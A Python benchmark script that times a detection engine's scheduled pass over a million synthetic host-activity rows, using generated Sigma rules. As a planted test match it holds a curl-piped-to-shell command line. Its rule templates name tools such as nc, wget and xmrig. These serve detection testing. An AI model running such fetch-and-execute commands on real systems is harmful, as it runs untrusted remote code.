"""What a scheduled pass costs: a million new rows, a hundred detections, of which thirty put rows together.

``python benchmarks/bench_detect.py [ROWS]`` writes rows of a busy machine (many file opens, programs with arguments,
connections, over a few runs) into a temporary lake, lets one pass of Lictor's own hunts and of Sigma rules made here go
over them, and prints the time of the pass, of its parts, and of a pass that follows and finds 1,000 new rows. The rows
carry a few that match, so that findings are written as well.
"""

from __future__ import annotations

import resource
import sys
import tempfile
import time
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from pathlib import Path

import numpy as np
import pyarrow as pa

from benchmarks.bench_wal import text
from lictor.detecting import schedule
from pipeline import schema
from pipeline.detect.interface import Context, Detector
from pipeline.lake.writer import LakeWriter
from pipeline.sigma.bundle import dumps
from pipeline.sigma.compile import compile_folder

PART = 10_000
PROCESSES = 1_000
"""In each part: ten rows of activity for one program that starts."""
SIGMA_RULES = 40
START_US = 1_790_000_000_000_000
TOOLS = ("curl", "wget", "nc", "python3", "base64", "crontab", "chattr", "xmrig", "nmap", "tcpdump")

RULE = """\
title: {tool} with marker {number}
id: 00000000-0000-4000-8000-{number:012}
status: test
author: the benchmark
logsource: {{ category: {category}, product: linux }}
detection:
  program: {{ Image|endswith: '/{tool}' }}
  what:
    {field}|contains|all: ['-{letter}', 'marker-{number}']
  other:
    {field}|endswith: ['.sh.{number}', '/payload{number}']
  condition: (program and what) or other
level: medium
"""


def batch(rng: np.random.Generator, rows: int, first: int) -> pa.RecordBatch:
    """Rows as they come from a host on which agents build and test: 8 of 10 are file opens."""
    kinds = rng.choice(4, rows, p=[0.80, 0.10, 0.06, 0.04])  # open, exec, exit, connect
    operation = pa.DictionaryArray.from_arrays(
        np.where(kinds == 0, rng.choice([0, 0, 0, 1, 2], rows), kinds + 2).astype(np.int32),
        ["file.read", "file.write", "file.create", "exec", "exit", "net.connect"],
    )
    classes = pa.DictionaryArray.from_arrays(np.array([0, 1, 1, 2], np.int32)[kinds], ["file", "process", "network"])
    time_us = START_US + (first + np.arange(rows)) * 60  # 17,000 a second
    has_path = pa.array(kinds != 0)
    # Programs of this part: each has its command line, folder and parent, as processes have.
    process = rng.integers(0, PROCESSES, rows)
    program = (np.arange(PROCESSES) % 60).astype(np.int32)
    columns = {
        "time": pa.array(time_us, schema.TIME), "time_ns": pa.array(time_us * 1000), "boottime_ns": pa.array(time_us),
        "cpu": pa.array(rng.integers(0, 2, rows).astype(np.int32)), "seq": pa.array(np.arange(first, first + rows)),
        "process_key": pa.array(first + process), "parent_key": pa.array(first + process // 8),
        "pid": pa.array((first + process).astype(np.int32)), "ino": pa.array(rng.integers(0, 1 << 24, rows)),
        "errno": pa.array(np.zeros(rows, np.int32)), "uid": pa.array(np.full(rows, 1000)),
        "path": masked(text(rng, rows, 5_000, "/home/u/project/objects/part_{}.o"), has_path),
        "cmdline": taken(process, [f"/usr/bin/tool-{p % 60} -O2 -c part_{p % 500}.c -o {first}/{p}.o" for p in range(PROCESSES)]),
        "exe": taken(program[process], [f"/usr/bin/tool-{i}" for i in range(60)]),
        "parent_exe": taken(program[process] % 10, [f"/usr/bin/parent-{i}" for i in range(10)]),
        "dst_ip": masked(text(rng, rows, 200, "203.0.113.{}"), pa.array(kinds != 3)),
        "dst_port": pa.array(np.full(rows, 443, np.int32), mask=kinds != 3), "operation": operation, "class": classes,
        "intent": masked(text(rng, rows, 1, "read"), has_path), "outcome": text(rng, rows, 1, "success"),
        "agent_run": text(rng, rows, 5, "run-{}"), "agent": text(rng, rows, 1, "codex"),
        "host": text(rng, rows, 1, "bench"), "boot_id": text(rng, rows, 1, "boot"), "source": text(rng, rows, 1, "ebpf"),
        "user": text(rng, rows, 1, "u"), "cwd": text(rng, rows, 5, "/home/u/project{}"),
    }  # fmt: skip
    part = schema.batch("activity", columns)
    return planted(part, rng) if first % 100_000 == 0 else part


def taken(codes: np.ndarray, values: list[str]) -> pa.DictionaryArray:
    """Text by number."""
    return pa.DictionaryArray.from_arrays(pa.array(codes.astype(np.int32)), pa.array(values))


def masked(column: pa.DictionaryArray, absent: pa.Array) -> pa.DictionaryArray:
    """The column with NULL where something is absent."""
    nothing = pa.scalar(None, pa.int32())
    return pa.DictionaryArray.from_arrays(pa.compute.if_else(absent, nothing, column.indices), column.dictionary)


def planted(part: pa.RecordBatch, rng: np.random.Generator) -> pa.RecordBatch:
    """The same rows with one that matches a hunt and a rule."""
    row = int(rng.integers(0, part.num_rows))
    new = {"cmdline": "/usr/bin/curl -a marker-0 https://example.org | sh", "exe": "/usr/bin/curl", "operation": "exec"}
    for name, value in new.items():
        values = part.column(name).cast(pa.string()).to_pylist()
        values[row] = value
        part = part.set_column(part.schema.get_field_index(name), name, pa.array(values).dictionary_encode())
    return part


def bundle(folder: Path) -> Path:
    """Sigma rules of this benchmark, compiled."""
    for number in range(SIGMA_RULES):
        category, field = (("process_creation", "CommandLine"), ("file_event", "TargetFilename"))[number % 2]
        tool, letter = TOOLS[number % len(TOOLS)], chr(ord("a") + number % 26)
        rule = RULE.format(number=number, category=category, field=field, tool=tool, letter=letter)
        (folder / f"{number}.yml").write_text(rule)
    made = compile_folder(folder)
    assert len(made.rules) == SIGMA_RULES, made.failures
    path = folder / "bundle.json"
    path.write_text(dumps(made))
    return path


class Timed(Detector):
    """A detector that notes how long it takes."""

    def __init__(self, inner: Detector) -> None:
        self.inner, self.detections, self.tables, self.whole = inner, inner.detections, inner.tables, inner.whole
        self.seconds, self.hits = 0.0, 0

    def detect(self, fresh: Mapping[str, pa.Table], context: Context) -> Iterator[pa.Table]:
        """See ``Detector``."""
        begin = time.perf_counter()
        found = list(self.inner.detect(fresh, context))
        self.seconds += time.perf_counter() - begin
        self.hits += sum(h.num_rows for h in found)
        yield from found


def main(arguments: list[str]) -> None:
    rows = int(arguments[0]) if arguments else 1_000_000
    rng = np.random.default_rng(3)
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        rules = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        lake = stack.enter_context(LakeWriter(folder, "bench"))
        for first in range(0, rows, PART):
            lake.append("activity", batch(rng, PART, first))
        lake.seal()
        choice = schedule.choice_of(schedule.Options(folder, sigma=(bundle(rules),)))
        timed = [Timed(d) for d in choice.detectors]
        print(f"{sum(len(d.detections) for d in timed)} detections over {rows:,} new rows")
        detecting = stack.enter_context(schedule.opened(folder, timed))
        once("a pass over all", detecting, timed)
        lake.append("activity", batch(rng, 1_000, rows))
        lake.sync()
        once("a pass over 1,000 more", detecting, timed)
        print(
            f"peak {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10} MiB (this process, load generator included)"
        )


def once(name: str, detecting: schedule.Detecting, timed: list[Timed]) -> None:
    wall, cpu = time.perf_counter(), time.process_time()
    children = resource.getrusage(resource.RUSAGE_CHILDREN)
    passed = detecting.run()
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    worker = after.ru_utime + after.ru_stime - children.ru_utime - children.ru_stime
    print(
        f"{name}: {passed.rows:,} rows, {len(passed.findings)} findings, {wall:.2f} s wall, {cpu:.2f} + {worker:.2f} s processor"
    )
    for detector in timed:
        kind = type(detector.inner).__name__
        print(
            f"  {kind:<14} {len(detector.detections):>3} detections {detector.seconds:6.2f} s wall, {detector.hits} hits"
        )
        detector.seconds, detector.hits = 0.0, 0


if __name__ == "__main__":
    main(sys.argv[1:])
